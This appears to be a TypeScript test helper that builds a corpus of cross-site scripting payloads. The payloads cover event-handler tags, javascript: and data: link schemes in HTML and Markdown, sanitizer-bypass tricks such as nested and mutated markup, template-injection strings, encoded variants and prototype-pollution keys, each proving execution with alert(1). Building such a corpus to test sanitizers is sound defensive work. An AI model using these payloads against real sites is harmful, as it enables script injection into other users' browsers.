const TAGS = [
  "img src=x",
  "svg",
  "video src=x",
  "iframe",
  "body",
  "details open",
  "input autofocus",
  "math",
  "object data=x",
  "marquee",
];
const HANDLERS = ["onerror", "onload", "ontoggle", "onfocus", "onpointerover", "onanimationstart", "onbegin"];
const SCHEMES = [
  "javascript:",
  "JaVaScRiPt:",
  "java\tscript:",
  "&#106;avascript:",
  "data:text/html,<script>",
  "vbscript:",
  "javascript\n:",
];

/** Texts that would run `alert(1)` on a page that treats text as markup: tags, handlers, links and Markdown tricks. */
export function corpus(): string[] {
  const handlers = TAGS.flatMap((tag) =>
    HANDLERS.flatMap((handler) => [
      `<${tag} ${handler}=alert(1)>`,
      `<${tag}/${handler}="alert\`1\`">`,
      `"><${tag} ${handler}='alert(1)'>`,
    ]),
  );
  const links = SCHEMES.flatMap((scheme) => [
    `[click](${scheme}alert(1))`,
    `[click](<${scheme}alert(1)>)`,
    `![pic](${scheme}alert(1))`,
    `<${scheme}alert(1)>`,
    `[a]: ${scheme}alert(1)\n\n[a]`,
    `<a href="${scheme}alert(1)">x</a>`,
    `[![x](${scheme}alert(1))](${scheme}alert(1))`,
  ]);
  return [...handlers, ...links, ...TRICKS];
}

const TRICKS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//x></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "</title><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  "<!--><script>alert(1)</script>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<style>@import 'javascript:alert(1)'</style>",
  '<link rel=stylesheet href="javascript:alert(1)">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  "<template><img src=x onerror=alert(1)></template>",
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  "{@html '<img src=x onerror=alert(1)>'}",
  "`<img src=x onerror=alert(1)>`",
  "```html\n<img src=x onerror=alert(1)>\n```",
  "~~~<script>alert(1)</script>\n~~~",
  "> <img src=x onerror=alert(1)>",
  "- <img src=x onerror=alert(1)>",
  "| <img src=x onerror=alert(1)> |\n|---|\n| <svg onload=alert(1)> |",
  "# <img src=x onerror=alert(1)>",
  "**<img src=x onerror=alert(1)>**",
  '[x](https://example.org "><img src=x onerror=alert(1)>")',
  "[<img src=x onerror=alert(1)>](https://example.org)",
  "https://example.org/<img/src=x/onerror=alert(1)>",
  'https://example.org"onmouseover=alert(1)',
  '<https://example.org"onclick=alert(1)>',
  "&lt;img src=x onerror=alert(1)&gt;",
  "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "__proto__",
  "constructor",
  "@constructor #act_00000000000000000000000000000000 @__proto__",
];
